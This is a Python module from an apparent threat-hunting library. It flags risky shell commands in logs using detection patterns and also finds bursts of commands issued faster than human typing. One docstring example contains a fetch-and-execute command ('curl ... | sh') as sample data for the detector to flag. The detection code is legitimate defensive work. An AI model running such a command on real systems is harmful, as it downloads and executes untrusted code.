"""Risky and hurried command lines, with the names and shapes that msticpy's users know."""

import json
from collections.abc import Sequence
from datetime import datetime
from pathlib import Path
from typing import Any

import polars as pl

from huntkit.core.errors import SettingsError, UsageError, did_you_mean
from huntkit.extract.risky_commands import command_risks
from huntkit.extract.texts import text_of
from huntkit.tables import as_kind, kind_of, roles, step, to_polars
from huntkit.tables.times import parse_times, pick_time_column

_BURST: dict[str, pl.DataType | type[pl.DataType]] = {
    "SourceIndex": pl.Int64,
    "First": pl.Datetime("us", "UTC"),
    "Last": pl.Datetime("us", "UTC"),
    "Seconds": pl.Float64,
    "Events": pl.Int64,
    "Commands": pl.List(pl.String),
    "Rows": pl.List(pl.Int64),
    "Group": pl.String,
}


def risky_cmd_line(
    events: Any,
    log_type: str = "Syslog",
    detection_rules: str | Path | None = None,
    cmd_field: str = "Command",
    *,
    lowest: str = "medium",
) -> dict[datetime, str]:
    """The risky commands by their time; `command_risks` tells more of each.

    What is encoded in a command is decoded and matched as well. Commands of the same time are one
    entry, with a line for each. A shell alone is not risky.

    Args:
        events: any frame; it is not changed.
        log_type: the kind of log. The built-in rules look at the command itself and are the same
            for all of them; a file of msticpy's form has patterns for each kind.
        detection_rules: a file of your own rules: YAML as for `command_risks`, or JSON of the form
            ``{"Syslog": ["pattern", ...]}``.
        cmd_field: the column with the commands.
        lowest: leave out what is less severe.

    Raises:
        UnknownColumn: `events` has no such column.
        UsageError: no column holds times, or the file has no patterns for the log type.

    Examples:
        >>> frame = pl.DataFrame({"TimeGenerated": [datetime(2024, 5, 1), datetime(2024, 5, 2)],
        ...                       "Command": ["/bin/bash", "curl http://files.example/a | sh"]})
        >>> list(risky_cmd_line(frame, "Syslog").values())
        ['curl http://files.example/a | sh']
    """
    frame = to_polars(events)
    roles.require(frame.columns, "command_line", cmd_field)
    times = parse_times(frame[pick_time_column(frame)])
    lines = text_of(frame[cmd_field])
    if detection_rules is not None and str(detection_rules).lower().endswith(".json"):
        places = _matched(lines, _patterns(Path(detection_rules), log_type))
    else:
        found = command_risks.on_polars(frame, cmd_field, rules=detection_rules, lowest=lowest)
        places = found["SourceIndex"].unique().sort()
    risky: dict[datetime, str] = {}
    for time, line in zip(times.gather(places), lines.gather(places), strict=True):
        risky[time] = f"{risky[time]}\n{line}" if time in risky else line
    return risky


def _patterns(path: Path, log_type: str) -> list[str]:
    try:
        found = json.loads(path.read_text(encoding="utf-8"))
    except (OSError, ValueError, RecursionError) as problem:
        reason = getattr(problem, "strerror", None) or problem
        raise SettingsError(f"the rules {path} can't be read: {reason}") from problem
    if not isinstance(found, dict) or not isinstance(found.get(log_type, []), list):
        raise SettingsError(f"{path} must be of the form {{'Syslog': ['pattern', ...]}}")
    if log_type not in found:
        hint = did_you_mean(log_type, found) or f"one of: {', '.join(map(str, found))}"
        raise UsageError(f"{path.name} has no rules for {log_type!r}", hint=hint)
    return [str(pattern) for pattern in found[log_type]]


def _matched(lines: pl.Series, patterns: Sequence[str]) -> pl.Series:
    hit = pl.repeat(value=False, n=len(lines), eager=True)
    for pattern in patterns:
        try:
            hit = hit | lines.str.contains(pattern).fill_null(value=False)
        except pl.exceptions.PolarsError as problem:
            raise SettingsError(
                f"the pattern {pattern!r:.100} can't be used: it needs look-around or is not well"
                " formed"
            ) from problem
    return hit.arg_true()


@step(split="whole", columns=("columns", "by", "time_column"), index="SourceIndex", gives=_BURST)
def command_bursts(
    data: pl.DataFrame,
    columns: str | None = None,
    *,
    seconds: float = 5,
    events: int = 10,
    by: Sequence[str] | None = None,
    time_column: str | None = None,
) -> pl.DataFrame:
    """Commands that came faster than people type: one row for each burst.

    A burst is a run of commands of which each is among `events` commands that came within
    `seconds` seconds; scripts and pasted blocks look like that.

    Args:
        data: any frame.
        columns: the column with the commands; the one that plays the role ``command_line`` if left
            out.
        seconds: the length of the window.
        events: how many commands must come within it; at least 2.
        by: columns whose values separate who typed; host and user, where they are known.
        time_column: the column of the time, if it can't be known.

    Returns:
        ``SourceIndex`` (the first row of the burst), ``First Last Seconds Events``, ``Commands`` in
        the order of time, ``Rows`` (their places in `data`), ``Group`` (the values of `by`). Rows
        without time or command are not looked at. Sorted by ``First``.

    Raises:
        UsageError: no column holds commands or times, or the window is empty.

    Examples:
        >>> frame = pl.DataFrame({"time": [f"2024-05-01T10:00:{s:02}Z" for s in (0, 1, 2, 30, 59)],
        ...                       "host": "h", "command": ["id", "w", "ps", "ls", "vi"]})
        >>> command_bursts(frame, "command", seconds=5, events=3)["Commands"].to_list()
        [['id', 'w', 'ps']]
    """
    if events < 2 or not seconds >= 0:
        raise UsageError("a burst needs a window of 0 seconds or more and at least 2 events")
    name = roles.require(data.columns, "command_line", columns)
    if by is None:
        known = [roles.resolve(data.columns, role) for role in ("host", "user")]
        by = list(dict.fromkeys(each for each in known if each is not None and each != name))
    by = [by] if isinstance(by, str) else list(by)
    group = [text_of(data[each]).fill_null("").alias(f"by{n}") for n, each in enumerate(by)]
    rows = pl.DataFrame(
        [
            pl.int_range(data.height, eager=True).alias("place"),
            parse_times(data[pick_time_column(data, time_column)]).alias("time"),
            text_of(data[name]).alias("line"),
            *group,
        ]
    )
    key = pl.concat_str([each.name for each in group], separator=" | ") if group else pl.lit("")
    rows = rows.with_columns(key=key).drop_nulls(["time", "line"]).sort("key", "time", "place")
    until = pl.col("time").shift(-(events - 1)).over("key")
    starts = (until - pl.col("time")) <= pl.duration(microseconds=round(seconds * 1_000_000))
    inside = starts.fill_null(value=False).cast(pl.Int64)
    covered = inside.rolling_sum(events, min_samples=1).over("key") > 0
    # Two commands belong together if one window holds both.
    before = inside.shift(1, fill_value=0).rolling_sum(events - 1, min_samples=1).over("key")
    bursts = (
        rows.with_columns(covered=covered, joined=before > 0)
        .with_columns(run=(pl.col("covered") & ~pl.col("joined")).cum_sum())
        .filter("covered")
        .group_by("run", maintain_order=True)
        .agg(
            SourceIndex=pl.col("place").first(),
            First=pl.col("time").first(),
            Last=pl.col("time").last(),
            Events=pl.len().cast(pl.Int64),
            Commands=pl.col("line"),
            Rows=pl.col("place"),
            Group=pl.col("key").first(),
        )
    )
    length = (pl.col("Last") - pl.col("First")).dt.total_microseconds() / 1_000_000
    return bursts.with_columns(Seconds=length).sort("First", "SourceIndex").select(*_BURST)


def cmd_speed(
    cmd_events: Any, cmd_field: str, time: float = 5, events: int = 10
) -> list[dict[Any, list[Any]]]:
    """Bursts of commands, each as ``{index of the first: [the events, how long they took]}``.

    As `command_bursts`, with the caller's own rows: of every host and user apart, where they are
    known. Overlapping windows are one burst.

    Args:
        cmd_events: any frame; it is not changed.
        cmd_field: the column with the commands.
        time: the length of the window in seconds.
        events: how many commands must come within it.

    Raises:
        UnknownColumn: there is no such column.
        UsageError: no column holds times.

    Examples:
        >>> frame = pl.DataFrame({"time": [f"2024-05-01T10:00:{s:02}Z" for s in (0, 1, 2, 30)],
        ...                       "command": ["id", "w", "ps", "ls"]})
        >>> [(key, str(took)) for each in cmd_speed(frame, "command", 5, 3)
        ...  for key, (rows, took) in each.items()]
        [(0, '0:00:02')]
    """
    frame = to_polars(cmd_events)
    found = command_bursts.on_polars(frame, cmd_field, seconds=time, events=events)
    kind = kind_of(cmd_events)
    labels = cmd_events.index if kind == "pandas" else range(frame.height)
    bursts: list[dict[Any, list[Any]]] = []
    for burst in found.iter_rows(named=True):
        rows = burst["Rows"]
        events_of = cmd_events.iloc[rows] if kind == "pandas" else as_kind(frame[rows], kind)
        bursts.append({labels[rows[0]]: [events_of, burst["Last"] - burst["First"]]})
    return bursts
